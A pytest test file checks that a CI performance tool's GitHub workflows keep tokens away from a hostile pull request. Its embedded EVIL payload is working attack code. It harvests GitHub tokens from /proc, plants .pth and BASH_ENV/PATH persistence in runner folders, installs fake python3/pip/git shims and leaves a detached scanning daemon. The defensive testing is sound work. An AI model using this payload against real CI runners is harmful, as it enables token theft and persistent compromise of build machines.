"""The documented workflows and the actions, run as GitHub runs them, with a project that does its
worst.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import sysconfig
import zipfile
from collections.abc import Iterator
from importlib.metadata import distribution
from pathlib import Path
from typing import Any

import psutil
import pytest
from conftest import ROOT, Project
from forges import Service, serving
from runner import Machine, Runner

BLOCK = re.compile(r"^```yaml\n# (\S+\.yml)\n(.*?)^```$", re.MULTILINE | re.DOTALL)
WORKFLOWS = dict(BLOCK.findall((ROOT / "docs" / "ci.md").read_text()))
OWN, FORK = (
    WORKFLOWS[".github/workflows/performance.yml"],
    WORKFLOWS[".github/workflows/performance-comment.yml"],
)
READING, WRITING = "ghs_reads0123456789abcdef", "ghs_writes0123456789abcdef"
FOLDERS = ("perfvcs", "perfvcs-comment")  # environments, below the runner's folder
STARTED = re.compile(r'execve\("([^"]+)".*(?:\) = 0|<unfinished \.\.\.>)$', re.MULTILINE)
OPENED = re.compile(r"= \d+<(/[^>]+)>$", re.MULTILINE)
WORK = 'printf \'{"uid": "inner", "wall": 0.%s%s}\\n\' LEVEL $(($$ % 10)) >> "$PERFVCS_SAMPLES"\n'
INNOCENT = (
    "logging/__init__.py",
    "types/__init__.py",
    "select/__init__.py",
    "venv.py",
    "pip.py",
    "sitecustomize.py",
    "msgspec.py",
    "json.py",
)
# Reads what it can, and leaves something behind wherever somebody may run it.
EVIL = """
import glob, os, re, sys, time
loot = "@LOOT@"
def look(source, data):
    for token in set(re.findall(rb"gh[a-z]_[A-Za-z0-9]{8,}", data)):
        with open(loot + "/stolen", "a") as file:
            file.write(f"{source} {token}\\n")
def scan():
    for place in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            data = open(place, "rb").read()
        except OSError:
            continue
        if loot.encode() in data or loot.rpartition("/")[0].encode() in data:  # what belongs to this test
            look(place, data)
if sys.argv[1:] == ["left behind"]:
    look("left behind", repr(dict(os.environ)).encode())
    sys.exit()
run = f"{sys.executable} {loot}/evil.py 'left behind'"
for machine in glob.glob("@MACHINES@/*/_temp"):
    for folder in glob.glob(machine + "/*/lib/python*/site-packages"):
        with open(folder + "/evil.pth", "w") as file:
            file.write(f"import os; os.system({run!r}); open({loot + '/pth'!r}, 'a').close()\\n")
    for file in glob.glob(machine + "/_runner_file_commands/github_env*"):
        open(file, "a").write(f"BASH_ENV={loot}/evil.sh\\nPYTHONPATH={os.getcwd()}\\n")
    for file in glob.glob(machine + "/_runner_file_commands/github_path*"):
        open(file, "a").write(f"{loot}/bin\\n")
os.makedirs(loot + "/bin", exist_ok=True)
for name in ("python3", "pip", "git"):
    with open(f"{loot}/bin/{name}", "w") as file:
        file.write(f"#!/bin/sh\\n{run}\\nexit 1\\n")
    os.chmod(f"{loot}/bin/{name}", 0o755)
open(loot + "/evil.sh", "w").write(run + "\\n")
scan()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open("/dev/null", os.O_RDWR)
        for number in range(3):
            os.dup2(null, number)
        os.closerange(3, 1000)
        os.execve(sys.executable, ["python3", "-I", "-c", open(__file__).read().partition("if sys.argv")[0] + '''
print(os.getpid(), file=open(loot + "/daemons", "a"), flush=True)
while True:
    scan()
    time.sleep(0.3)
'''], {})
    os._exit(0)
"""


class Place:
    """A project with a pull request that is a degradation, and what GitHub has of it."""

    def __init__(self, folder: Path, project: Project, service: Service) -> None:
        self.folder, self.project, self.service = folder, project, service
        self.loot, self.machines = folder / "loot", folder / "machines"
        self.loot.mkdir()
        self.machines.mkdir()
        loose = '[[check]]\nunit = "work"\ndelta = "1000%"\n'
        project.configure(f'cmd = "sh work.sh"\n{loose}')
        self.base = project.commit("before", **{"work.sh": WORK.replace("LEVEL", "1000")})

    def attack(self) -> None:
        """The pull request brings files with the names of modules, and a build and a benchmark that
        attack.
        """
        self.project.configure('cmd = "sh work.sh"', top='build = ["python3 -I evil.py"]')
        evil = EVIL.replace("@LOOT@", str(self.loot)).replace("@MACHINES@", str(self.machines))
        (self.loot / "evil.py").write_text(evil)
        said = (
            f"import sys\nwith open({str(self.loot / 'imported')!r}, 'a') as file:\n   "
            " file.write(f'{sys.orig_argv}\\n')\n"
        )
        self.project.commit(
            "an attack",
            **{"evil.py": evil, "work.sh": WORK.replace("LEVEL", "1000") + "python3 -I evil.py\n"},
        )
        self.base = self.project.git("rev-parse", "HEAD")
        for name in INNOCENT:
            self.project.write(name, said)
        self.project.commit(
            "more", **{"work.sh": WORK.replace("LEVEL", "2000") + "python3 -I evil.py\n"}
        )

    def runner(self, *, fork: bool = False, **more: Any) -> Runner:
        head = self.project.git("rev-parse", "HEAD")
        whose = "eve/project" if fork else "ada/project"
        change = {
            "number": 7,
            "base": {"sha": self.base, "ref": "main"},
            "head": {"sha": head, "repo": {"full_name": whose}},
        }
        event: dict[str, Any] = {"pull_request": change}
        self.service.pulls = [{"number": 7, "state": "open", "head": {"sha": head}}]
        kept = {
            name: value
            for name, value in os.environ.items()
            if not re.match(r"(GITHUB|GITLAB|CI|ACTIONS|GH|PYTHON|COVERAGE)_?", name)
        }
        pip = {
            "PIP_NO_INDEX": "1",
            "PIP_NO_DEPS": "1",
            "PIP_FIND_LINKS": str(self.folder / "wheels"),
            "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        }
        variables = kept | pip | {"GITHUB_API_URL": self.service.address}
        return Runner(
            self.machines, self.project.root, event, variables, token_of, dependencies, **more
        )

    def later(self, whose: str) -> Runner:
        """The run of another workflow that the end of the first one starts."""
        runner, head = self.runner(run="2"), self.project.git("rev-parse", "HEAD")
        run = {
            "id": "1",
            "event": "pull_request",
            "head_sha": head,
            "head_repository": {"full_name": whose},
        }
        runner.event = {"workflow_run": run}
        return runner


def token_of(permissions: dict[str, str]) -> str:
    return WRITING if "write" in permissions.values() else READING


def dependencies(temp: Path) -> None:
    """What pip would bring from an index is that of this environment: perfvcs itself comes
    first.
    """
    for folder in temp.glob("perfvcs*/lib/python*/site-packages"):
        (folder / "dependencies.pth").write_text(f"{sysconfig.get_path('purelib')}\n")


def repacked(name: str, folder: Path) -> None:
    """The wheel of what is installed here, for an installer without a network."""
    found = distribution(name)
    folder.mkdir()
    with zipfile.ZipFile(folder / f"{name}-{found.version}-py3-none-any.whl", "w") as wheel:
        for path in found.files or ():
            if ".." not in path.parts and "__pycache__" not in path.parts:
                wheel.write(path.locate(), path)


@pytest.fixture
def place(tmp_path: Path, project: Project) -> Iterator[Place]:
    with serving() as service:
        yield Place(tmp_path, project, service)


@pytest.fixture
def quick(place: Place, monkeypatch: pytest.MonkeyPatch) -> Place:
    """Nothing is installed: this environment stands where the actions make theirs."""
    steps = Runner._steps

    def ready(self: Runner, machine: Machine, found: list[dict[str, Any]], *rest: Any) -> int:
        for name in FOLDERS:
            (
                (machine.temp / name).symlink_to(sys.prefix)
                if not (machine.temp / name).exists()
                else None
            )
        return steps(
            self, machine, [step for step in found if step.get("name") != "Install perfvcs"], *rest
        )

    monkeypatch.setattr(Runner, "_steps", ready)
    return place


def test_a_pull_request_is_measured_in_one_job_and_commented_in_another(quick: Place) -> None:
    quick.project.commit("slower", **{"work.sh": WORK.replace("LEVEL", "2000")})
    runner = quick.runner()
    measured = runner.job(OWN, "measure")
    assert measured and runner.status == 3, measured
    assert quick.service.asked == []
    commented = runner.job(OWN, "comment")
    assert commented and (runner.status, commented.log) == (0, "comment written\n")
    assert "became slower" in quick.service.bodies[0]
    headers = [headers["Authorization"] for _, _, headers in quick.service.asked]
    assert {*headers} == {f"Bearer {WRITING}"}
    assert quick.later("ada/project").job(FORK, "comment") is None, "it is commented once"


def test_the_comment_on_a_fork_s_pull_request_comes_from_a_run_of_its_own(quick: Place) -> None:
    quick.project.commit("slower", **{"work.sh": WORK.replace("LEVEL", "2000")})
    runner = quick.runner(fork=True)
    assert runner.job(OWN, "measure") and runner.status == 3
    assert runner.job(OWN, "comment") is None, "a fork's run may not write"
    later = quick.later("eve/project")
    commented = later.job(FORK, "comment")
    assert commented and (later.status, commented.log) == (0, "comment written\n")
    assert "became slower" in quick.service.bodies[0]


def test_a_job_that_did_not_measure_is_not_commented(quick: Place) -> None:
    (quick.project.root / "perf.toml").write_text("[[job]]\n")
    quick.project.commit("broken")
    runner = quick.runner()
    assert runner.job(OWN, "measure") and runner.status == 2
    commented = runner.job(OWN, "comment", needed="failure")
    assert commented and (runner.status, commented.log, quick.service.asked) == (0, "", [])


@pytest.mark.needs("strace")
def test_no_process_of_a_hostile_project_sees_a_token(place: Place) -> None:
    """Its build, its benchmark, what they left behind, and modules at its top; a daemon outlives
    all of it in the job that measures.
    """
    repacked("setuptools", place.folder / "wheels")
    place.attack()
    runner = place.runner(traced="execve")
    measured = runner.job(OWN, "measure")
    judged = runner.status
    assert measured and judged in (3, 4), measured.log
    assert (place.loot / "daemons").exists() and "evil.sh" in measured.env["BASH_ENV"]
    assert list(measured.temp.glob("perfvcs/lib/python*/site-packages/evil.pth"))
    assert not any(
        psutil.pid_exists(int(pid)) for pid in (place.loot / "daemons").read_text().split()
    )
    assert not (place.loot / "imported").exists(), (
        "neither pip nor venv nor perfvcs imports what is at the top of a project"
    )
    traces = measured.traces
    assert len(traces) == 3 and all("execve(" in text for text in traces.values())
    assert not any(token in text for text in traces.values() for token in (READING, WRITING))
    assert holding(place.machines, READING, WRITING) == []

    runner.traced = "execve,open,openat"
    commented = runner.job(OWN, "comment")
    assert commented and (runner.status, commented.log) == (0, "comment written\n"), commented
    assert {3: "became slower", 4: "could be settled"}[judged] in place.service.bodies[0]
    traces = commented.traces
    assert [number for number, text in traces.items() if WRITING in text] == [1], (
        "the step that comments"
    )
    for text in traces.values():
        used = {
            *OPENED.findall(text),
            *(str(commented.temp / path) for path in STARTED.findall(text)),
        }
        assert [
            path for path in used if below(path, measured.folder, place.loot, place.project.root)
        ] == []
    started = {Path(path).name for path in STARTED.findall(traces[1])}
    assert started <= {"bash", "python", "sh"}, "perfvcs, and its keeper"
    artifact = [
        path
        for path in OPENED.findall(traces[1])
        if below(path, commented.temp / "perf-ci-comment")
    ]
    assert {Path(path).name for path in artifact} == {"report.json"}
    assert not (place.loot / "pth").exists() and not (place.loot / "stolen").exists()
    assert holding(place.machines, WRITING, READING) == []
    subprocess.run([measured.temp / "perfvcs/bin/python", "-I", "-c", ""], check=True)
    assert (place.loot / "pth").exists(), (
        "in the environment of the job that measured a token would be lost"
    )


def holding(folder: Path, *tokens: str) -> list[Path]:
    """The files below a folder with one of these texts."""
    files = [
        path
        for path in folder.rglob("*")
        if path.is_file()
        and not path.is_symlink()
        and not path.name.rpartition(".")[2].startswith("trace-")
    ]
    return [path for path in files if any(token.encode() in path.read_bytes() for token in tokens)]


def below(path: str, *folders: Path) -> bool:
    return any(Path(path).is_relative_to(folder) for folder in folders)
